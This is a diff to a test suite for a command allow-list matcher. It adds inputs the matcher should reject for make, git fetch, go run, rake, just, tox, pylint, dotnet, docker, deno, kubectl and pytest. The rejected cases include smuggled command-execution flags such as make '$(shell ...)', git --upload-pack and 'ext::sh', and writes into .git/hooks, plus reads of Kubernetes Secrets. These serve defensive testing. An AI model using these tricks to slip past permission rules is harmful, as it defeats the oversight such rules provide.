@@ -141,8 +141,68 @@ describe('a rule about a subcommand', () => {
     [
       'make test',
       ['make test', 'make test -j4'],
-      ['make test SHELL=./evil', 'make test --eval=x', 'make test -f evil.mk', 'make -C .. test', 'make evil'],
+      [
+        'make test SHELL=./evil',
+        'make test --eval=x',
+        'make test -f evil.mk',
+        'make -C .. test',
+        'make evil',
+        // Half a name is enough for make, and a variable may be set in many ways, one of which runs a command.
+        "make test --ev='$(shell touch P)'",
+        'make test --makef=evil.mk',
+        "make test 'X!=touch P'",
+        "make test 'X::=y'",
+        "make test 'SHELL =./evil'",
+      ],
     ],
+    [
+      'git fetch',
+      ['git fetch --all --prune', 'git fetch origin main'],
+      [
+        "git fetch origin --upload-pack='touch P'",
+        "git fetch origin --upload-pac='touch P'",
+        'git fetch --recurse-sub=yes',
+        "git fetch 'ext::sh -c touch'",
+      ],
+    ],
+    ['go run ./cmd', ['go run ./cmd -v'], ['go run evil.example/x@latest', 'go run -C=.. ./cmd']],
+    [
+      'rake build',
+      ['rake build --trace'],
+      ['rake build -p x', 'rake build --execute=x', 'rake build --exe=x', 'rake build A=1'],
+    ],
+    [
+      'just build',
+      ['just build fast'],
+      ["just build -c 'touch P'", 'just build --justfile=x', 'just build --command touch'],
+    ],
+    ['tox', ['tox -q'], ['tox exec -- touch P', 'tox -x testenv.commands=touch', 'tox --overr=testenv.commands=touch']],
+    [
+      'pylint src',
+      ['pylint src --disable=C0114'],
+      ['pylint --init-hook=x src', 'pylint --init-h=x', 'pylint --load-plugins x'],
+    ],
+    [
+      'dotnet build',
+      ['dotnet build -c Release --no-restore'],
+      [
+        'dotnet build -p:PreBuildEvent=touch',
+        'dotnet build --property:A=b',
+        'dotnet build @evil.rsp',
+        'dotnet build -logger:x',
+      ],
+    ],
+    [
+      'docker build .',
+      ['docker build -t app:1.0 .', 'docker build --tag app:latest --no-cache .'],
+      [
+        'docker build --iidfile .git/hooks/post-commit .',
+        'docker build -t https://evil.example/x .',
+        'docker build git:x',
+      ],
+    ],
+    ['deno test', ['deno test src'], ['deno test -A', 'deno test --allow-run']],
+    ['kubectl get pods', ['kubectl get pods -n a'], ['kubectl get Secret -o yaml', 'kubectl get pods,Secrets']],
     [
       'go test ./...',
       ['go test ./...', 'go test -run X -v ./pkg'],
@@ -160,8 +220,11 @@ describe('a rule about a subcommand', () => {
     ],
     [
       'python -m pytest',
-      ['python -m pytest -q tests/a.py'],
+      ['python -m pytest -q tests/a.py', 'python -m pytest --junitxml=report.xml', 'python -m pytest --co'],
       [
+        'python -m pytest --junitxml=.git/hooks/pre-commit',
+        'python -m pytest --log-file .husky/pre-commit',
+        'python -m pytest --basetemp=.git',
         'python -m pytest -p evil',
         'python -m pytest -c evil.ini',
         'python -m evil',
